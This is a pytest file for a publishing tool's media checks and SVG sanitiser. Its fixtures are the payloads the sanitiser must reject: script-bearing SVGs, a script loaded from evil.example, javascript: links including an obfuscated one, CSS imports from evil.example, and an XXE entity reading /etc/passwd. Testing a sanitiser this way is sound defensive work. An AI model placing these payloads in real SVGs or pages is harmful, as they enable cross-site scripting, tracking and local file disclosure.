"""Which files a page may bring along, and pictures in SVG made fit for it."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from workflow.errors import ArticleError
from workflow.formats.mediafiles import content_problem, name_problem
from workflow.formats.svg import clean
from workflow.project.articles import find_sources

PNG = b"\x89PNG\r\n\x1a\n"

REFUSED = [
    ("deux.md", "article’s source"),
    ("news/DEUX.MD", "article’s source"),
    ("page.htm", "article’s source"),
    ("notes.txt", "article’s source"),
    (".env", "hidden"),
    (".git/config", "hidden"),
    (".git/logo.png", "hidden"),
    ("images/.cache/a.png", "hidden"),
    ("新闻/.草稿.png", "hidden"),
    ("setup.cfg", "not published"),
    ("page.xhtml", "not published"),
    ("page.svgz", "not published"),
    ("a.png ", "not published"),
    ("a.png.", "not published"),
    ("a.png::$DATA", "not published"),
    ("script.js", "not published"),
    ("README", "no ending"),
    ("plan.pdf", "no picture"),
    ("film.mp4", "no picture"),
]


@pytest.mark.parametrize(("path", "says"), REFUSED)
def test_what_is_not_published_as_a_picture(path: str, says: str) -> None:
    assert says in name_problem(path, shown=True)


@pytest.mark.parametrize("path", ["a.png", "images/Été/A.JPEG", "图/图.webp", "a.b.svg", "a b.gif"])
def test_pictures_by_name(path: str) -> None:
    assert name_problem(path, shown=True) == ""


@pytest.mark.parametrize("path", ["plan.pdf", "Chiffres.CSV", "a.zip", "a.odt", "a.vtt", "a.png"])
def test_files_behind_links(path: str) -> None:
    assert name_problem(path, shown=False) == ""


CONTENTS = [
    ("a.png", PNG, ""),
    ("a.png", b"\xff\xd8\xff\xe0", ""),  # browsers show a JPEG whatever its ending
    ("a.jpg", PNG, ""),
    ("a.gif", b"GIF89a", ""),
    ("a.webp", b"RIFF\x00\x00\x00\x00WEBP", ""),
    ("a.avif", b"\x00\x00\x00\x1cftypavif", ""),
    ("a.png", b"", "is empty"),
    ("a.png", b"<!doctype html><script>", "markup"),
    ("a.PNG", b"\xef\xbb\xbf \n<svg>", "markup"),
    ("a.png", "<html>".encode("utf-16"), "markup"),
    ("a.png", b"<?xml version='1.0'?>", "markup"),
    ("a.png", b"SECRET_KEY = 1234\n", "text"),
    ("a.jpg", b"---\ntitle: Deux\n---\n\nPas encore.\n", "text"),
    ("a.jpg", b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\n", "text"),
    ("a.jpg", "秘密 的 文章".encode(), "text"),
    ("a.png", "clé secrète à garder".encode("latin-1"), "text"),
    ("a.png", "密钥 是 这个".encode("gb18030"), "text"),
    ("a.png", "未经批准的文章。".encode("gb18030") * 5, "text"),
    ("a.png", "KEY=secret word".encode("utf-16"), "text"),
    ("a.png", "KEY=secret word".encode("utf-16-le"), "text"),
    ("a.png", "KEY=secret word".encode("utf-16-be"), "text"),
    ("a.png", b"YWJj" * 20, "text"),
    ("a.png", b"\x00\x01\x02 unknown", ""),
    ("a.png", b"%PDF-1.7", "a PDF"),
    ("a.png", b"\x7fELF\x02", "a program"),
    ("a.pdf", b"%PDF-1.7", ""),
    ("a.pdf", b"<html>", "markup"),
    ("a.pdf", PNG, "a picture"),
    ("a.mp4", b"\x00\x00\x00\x20ftypisom", ""),
    ("a.webm", b"\x1a\x45\xdf\xa3", ""),
    ("a.mp3", b"ID3\x04", ""),
    ("a.mp3", b"\xff\xfb\x90", ""),
    ("a.mp3", b"<script>", "markup"),
    ("a.xlsx", b"PK\x03\x04", ""),
    ("a.zip", b"MZ\x90", "a program"),
    ("a.csv", b"a,b\n1,2\n", ""),
    ("a.csv", b"<table>", "markup"),
    ("a.csv", "数量;单位\n12;公里\n".encode("gb18030"), ""),
    ("a.csv", "a;b\n1;2\n".encode("utf-16"), ""),
    ("a.vtt", b"WEBVTT\n\n00:01", ""),
]


@pytest.mark.parametrize(("path", "data", "says"), CONTENTS)
def test_bytes_must_be_what_the_ending_says(path: str, data: bytes, says: str) -> None:
    found = content_problem(path, data)
    assert says in found if says else not found


def svg(inside: str, attributes: str = "", before: str = "") -> bytes:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>\n{inside}</svg>'
    ).encode()


ACTIVE = [
    svg("<script>alert(1)</script>"),
    svg('<script href="//evil.example/x.js"/>'),
    svg('<g xmlns:s="http://www.w3.org/2000/svg"><s:script>x</s:script></g>'),
    svg("<SCRIPT>x</SCRIPT>"),
    svg("", 'onload="alert(1)"'),
    svg('<rect ONCLICK="x"/>'),
    svg("<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>"),
    svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script>"),
    svg("<handler>x</handler>"),
    svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    svg('<a xlink:href=" java&#9;script:alert(1)"><text>x</text></a>'),
    svg('<a href="data:text/html,x"><text>x</text></a>'),
    svg('<image href="https://evil.example/pixel.gif"/>'),
    svg('<image xlink:href="../../.env"/>'),
    svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
    svg('<use href="other.svg#a"/>'),
    svg('<feImage href="//evil.example/x.png"/>'),
    svg('<rect fill="url(https://evil.example/#a)"/>'),
    svg('<rect style="fill: url(&quot;https://evil.example/#a&quot;)"/>'),
    svg('<rect style="fill: u\\72l(https://evil.example/)"/>'),
    svg("<style>@import 'https://evil.example/x.css';</style>"),
    svg("<style>rect { background: url(//evil.example/x) }</style>"),
    svg("<style>rect { background: image-set('//evil.example/x' 1x) }</style>"),
    svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    svg('<a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>'),
    svg("", before='<?xml-stylesheet href="x.css"?>'),
    svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    svg("<text>x</text>", before='<!DOCTYPE svg [<!ENTITY x "<script/>">]>'),
    svg("<text>&nosuch;</text>"),
    b"<html xmlns='http://www.w3.org/1999/xhtml'><script>x</script></html>",
    b"<svg",
    b"",
    b"\x89PNG",
    b"\x1f\x8b\x08\x00",
    svg("<script>x</script>").decode().encode("utf-16"),
]


@pytest.mark.parametrize("data", ACTIVE)
def test_what_acts_or_loads_is_refused_with_its_line(data: bytes) -> None:
    with pytest.raises(ArticleError) as caught:
        clean(data)
    assert caught.value.line
    assert caught.value.hint


def test_the_line_is_that_of_the_element() -> None:
    with pytest.raises(ArticleError, match="script") as caught:
        clean(svg("<g>\n<rect/>\n<script>x</script></g>"))
    assert caught.value.line == 4


PLAIN = [
    '<title>La carte</title><desc>地图</desc><text x="1">南宁 &amp; Paris</text>',
    '<defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs>'
    '<rect fill="url(#a)" style="fill:url(#a);stroke:red"/>',
    '<style>.a{fill:red} @font-face{src:url(data:font/woff2;base64,AAAA)}</style><g class="a"/>',
    '<image href="data:image/png;base64,iVBORw0KGgo="/>',
    '<use xlink:href="#a"/><a href="https://example.org/"><text>x</text></a>',
    '<circle r="1"><animate attributeName="r" values="1;2" dur="1s"/></circle>',
    '<text xml:space="preserve" xml:lang="zh">  一  </text>',
    '<path d="M0 0" transform="translate(1) rotate(2 3 4)" data-name="x: (y)"/>',
]


@pytest.mark.parametrize("inside", PLAIN)
def test_a_picture_stays_as_it_is(inside: str) -> None:
    data = svg(inside)
    cleaned = clean(data)
    assert canonical(cleaned) == canonical(data)
    assert clean(cleaned) == cleaned


def canonical(data: bytes) -> bytes:
    root = etree.fromstring(data)
    etree.cleanup_namespaces(root)
    return etree.tostring(root, method="c14n")


def test_what_drawing_programs_leave_behind_goes() -> None:
    data = svg(
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
        "<?xpacket begin='x'?></metadata><!-- secret -->"
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/>'
        '<g i:label="x" xmlns:i="http://www.inkscape.org/namespaces/inkscape"><rect/></g>',
        before='<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by -->\n<!DOCTYPE svg PUBLIC '
        '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n',
    )
    assert clean(data) == (b'<svg xmlns="http://www.w3.org/2000/svg">\n<g><rect/></g></svg>\n')


def test_the_document_type_goes_with_what_it_adds() -> None:
    kind = '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'
    assert b"onload" not in clean(svg("<text>x</text>", before=kind))


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1"])
def test_other_encodings_become_utf_8(encoding: str) -> None:
    before = f'<?xml version="1.0" encoding="{encoding}"?>'
    data = svg("<text>été</text>", before=before).decode().encode(encoding)
    assert "<text>été</text>".encode() in clean(data)


def test_a_forgotten_namespace_is_added() -> None:
    assert clean(b"<svg width='1'><rect/></svg>") == (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="1"><rect/></svg>\n'
    )
    with pytest.raises(ArticleError, match="script"):
        clean(b"<svg><script>x</script></svg>")


def test_no_other_package_is_asked_for_the_format_of_a_picture(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """To look for packages takes longer than to look at all of a small project."""
    monkeypatch.setattr("workflow.project.articles._others", lambda: pytest.fail("asked"))
    (tmp_path / "articles").mkdir()
    for name in ("a.md", "map.PNG", "talk.mp3", "b.html"):
        (tmp_path / "articles" / name).touch()
    found = {"a": ("articles/a.md",), "b": ("articles/b.html",)}
    assert find_sources(tmp_path, "articles") == found
